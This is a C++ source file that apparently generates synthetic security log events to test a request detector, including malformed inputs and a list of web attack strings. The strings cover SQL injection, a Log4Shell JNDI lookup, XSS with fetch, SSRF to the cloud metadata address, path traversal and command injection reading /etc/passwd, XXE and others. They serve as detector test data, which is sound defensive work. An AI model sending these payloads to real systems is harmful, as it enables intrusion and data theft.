#include "stories.h"

#include <array>
#include <random>
#include <string>

#include "model/schema.h"

namespace onesec::conformance {
namespace {

constexpr std::string_view kCountries[] = {"DE", "JP", "FR", "BR", "US", "xx", ""};
constexpr std::string_view kPaths[] = {"/login",      "/login",       "/wp-login.php", "/api/login",
                                       "/xmlrpc.php", "/oauth/token", "/session",      "/cart"};
/// Of each class that a detector of requests looks for, some in a request.
constexpr std::string_view kAttacks[] = {
    "id=7'+or+3%3D3--+&t={{7*7}}&u=${jndi:ldap://host.example/a}&c=<?php echo 1;",
    "q=<script>fetch('//x/')</script>&o=O:8:\"stdClass\":0:{}&a=http://169.254.169.254/&n[$ne]=1",
    "f=../../../../etc/passwd&l=*)(uid=*&x='+or+count(//a)%3D1+or+'a'%3D'b&d=<!ENTITY+a+SYSTEM+'file:///b'>",
    "h=x;cat+/etc/passwd&r=a%0d%0aSet-Cookie:+b&__proto__[a]=1"};
constexpr std::int64_t kStatuses[] = {401, 401, 200, 200, 302, 429, 404, 500};
constexpr Field kAddedBySources[] = {Field::Service,    Field::SourceCountry, Field::UserExists, Field::Method,
                                     Field::SourceHost, Field::SourceAsn,     Field::RepeatCount};

class Maker {
 public:
  Maker(std::uint64_t seed, Temper temper) : random_(seed), temper_(temper) {}

  std::uint64_t below(std::uint64_t bound) { return random_() % bound; }
  bool once_in(std::uint64_t times) { return below(times) == 0; }

  std::string text_for(Field field) {
    if (temper_ == Temper::Hostile && once_in(3)) return hostile();
    if (field == Field::SourceCountry || field == Field::CountryCode)
      return std::string(kCountries[below(std::size(kCountries))]);
    if (field == Field::Username) return once_in(4) ? "root" : "user" + std::to_string(below(once_in(3) ? 3 : 40));
    if (field == Field::Method) return once_in(4) ? "publickey" : "password";
    return std::string(name_of(field)) + std::to_string(below(4));
  }

  void set_field(EventDraft& draft, Field field) {
    switch (info_of(field).type) {
      case FieldType::Text:
        draft.set(field, text_for(field));
        break;
      case FieldType::Integer:
        draft.set_integer(field, field == Field::RepeatCount ? static_cast<std::int64_t>(1 + below(5)) : number());
        break;
      case FieldType::Real:
        draft.set_real(field, static_cast<double>(below(1'000)) / 10);
        break;
      case FieldType::Boolean:
        draft.set_boolean(field, once_in(2));
        break;
      case FieldType::Address:
        draft.set_address(field, address());
        break;
      case FieldType::List: {
        const std::array<std::string, 2> owned = {text_for(field), text_for(field)};
        const std::array<std::string_view, 2> items = {owned[0], owned[1]};
        draft.set_list(field, items);
        break;
      }
    }
  }

  /// A request as an access log tells it, often one that signs in.
  void set_request(EventDraft& draft) {
    const bool is_wild = temper_ == Temper::Hostile && once_in(3);
    draft.set(Field::Method, once_in(8) ? "GET" : "POST");
    draft.set(Field::Path, is_wild ? hostile() : std::string(kPaths[below(std::size(kPaths))]));
    draft.set(Field::Query, is_wild ? hostile() : "");
    set_answer(draft);
    if (!is_wild && draft.view().text(Field::Path) == "/cart")
      draft.set(Field::Query, kAttacks[attacks_++ % std::size(kAttacks)]);
  }
  void set_answer(EventDraft& draft) {
    draft.set_integer(Field::StatusCode, kStatuses[below(std::size(kStatuses))]);
    draft.set_integer(Field::ResponseSize, once_in(8) ? number() : static_cast<std::int64_t>(1'000 * (1 + below(3))));
  }

  IpAddress address() {
    const auto low = static_cast<std::uint8_t>(below(once_in(3) ? 4 : 250));
    if (once_in(12)) return {};
    if (once_in(4)) return IpAddress::v4(198, 18, static_cast<std::uint8_t>(below(40)), low);
    if (once_in(2)) return IpAddress::v4(198, 51, 100, low);
    const auto part = static_cast<std::uint8_t>(below(4));
    return IpAddress::from_bytes({0x20, 0x01, 0x0D, 0xB8, 0, 0, part, part, 0, 0, 0, 0, 0, 0, 0, low});
  }

  std::int64_t next_time(std::int64_t nanos) {
    constexpr std::int64_t kSecond = 1'000'000'000;
    constexpr std::int64_t kYear = 31'536'000 * kSecond;
    if (temper_ == Temper::Wild) {
      switch (below(12)) {
        case 0:
          return nanos > 0 ? nanos / 2 : nanos;
        case 1:
          return nanos < INT64_MAX - 20 * kYear ? nanos + 20 * kYear : 0;
        case 2:
          return nanos > INT64_MIN + 20 * kYear ? nanos - 20 * kYear : 0;
        case 3:
          return once_in(10) ? (once_in(2) ? INT64_MAX : INT64_MIN) : 0;
        case 4:
          return nanos;
        default:
          break;
      }
    }
    const std::int64_t step = static_cast<std::int64_t>(below(once_in(20) ? 3'600 : 10)) * kSecond;
    return nanos > INT64_MAX - step ? 0 : nanos + step;
  }
  std::int64_t jitter() { return once_in(10) ? -static_cast<std::int64_t>(below(30)) : 0; }

 private:
  std::int64_t number() {
    return once_in(8) ? static_cast<std::int64_t>(random_()) : static_cast<std::int64_t>(below(5));
  }
  std::string hostile() {
    switch (below(6)) {
      case 0:
        return "\xFF\xFE\xC0\x80";
      case 1:
        return std::string("a\0b", 3);
      case 2:
        return "";
      case 3:
        return "\x1B[2J\r\n\t'\"\\<>";
      case 4:
        return once_in(8) ? std::string(1U << 20U, 'A') : std::string(300, static_cast<char>(0xE2));
      default:
        return std::string(65, 'x') + std::to_string(below(3));
    }
  }

  std::mt19937_64 random_;
  Temper temper_;
  std::size_t attacks_ = 0;
};

}  // namespace

std::span<const Event> Story::events() {
  views_.clear();
  for (const EventDraft& draft : drafts_) {
    views_.push_back(draft.view());
    views_.back().id = {1, static_cast<std::uint32_t>(views_.size() % 64), 1 + views_.size() / 64};
  }
  return views_;
}

Story make_story(std::uint64_t seed, std::size_t events, std::span<const EventType> types, Temper temper,
                 std::int64_t start_secs) {
  Maker make(seed, temper);
  Story story;
  std::int64_t nanos = start_secs * 1'000'000'000;
  EventDraft base;
  bool is_crowd = false;  // from here and there, as many: a new actor and name at each event
  for (std::size_t i = 0; i < events; ++i) {
    if (i == 0 || make.once_in(32)) {
      is_crowd = make.once_in(2);
      base.clear();
      base.type = types[make.below(types.size())];
      base.provenance = static_cast<Provenance>(make.below(5));
      for (const Field field : schema_of(base.type).required) make.set_field(base, field);
      for (const Field field : schema_of(base.type).optional) {
        if (make.once_in(2)) make.set_field(base, field);
      }
      for (const Field field : kAddedBySources) {
        if (make.once_in(3)) make.set_field(base, field);
      }
      if (base.type == EventType::HttpRequest) make.set_request(base);
      base.source_ip = make.address();
      base.set(EventDraft::Text::Raw, make.text_for(Field::Reason));
    }
    EventDraft& draft = story.add();
    draft = base;
    if (is_crowd || make.once_in(2)) draft.source_ip = make.address();
    if (is_crowd || make.once_in(2)) make.set_field(draft, Field::Username);
    if (draft.type == EventType::HttpRequest && make.once_in(16)) make.set_answer(draft);
    nanos = make.next_time(nanos);
    draft.received_at = Instant::from_nanos(nanos);
    draft.when = draft.received_at + seconds(make.jitter());
  }
  return story;
}

Story make_crowd(std::uint64_t first, std::size_t events, EventType type) {
  Story story;
  for (std::uint64_t i = first; i < first + events; ++i) {
    EventDraft& draft = story.add();
    draft.type = type;
    const auto byte = [i](unsigned shift) { return static_cast<std::uint8_t>(i >> shift); };
    draft.source_ip = IpAddress::from_bytes({0x20, 0x01, 0, byte(16), byte(8), byte(0), 0, 0, 0, 0, 0, 0, 0, 0, 0, 1});
    draft.set(Field::Username, "somebody" + std::to_string(i));
    draft.set(Field::Service, "service" + std::to_string(i));
    draft.set(Field::SourceCountry, "DE");
    if (type == EventType::HttpRequest) {
      draft.set(Field::Method, "POST");
      draft.set(Field::Path, "/site" + std::to_string(i) + "/login");
      draft.set(Field::Query, kAttacks[i % std::size(kAttacks)]);
      draft.set_integer(Field::StatusCode, 403);
    }
    draft.when = draft.received_at = Instant::from_seconds(1'795'521'600 + static_cast<std::int64_t>(i / 1'000));
  }
  return story;
}

}  // namespace onesec::conformance
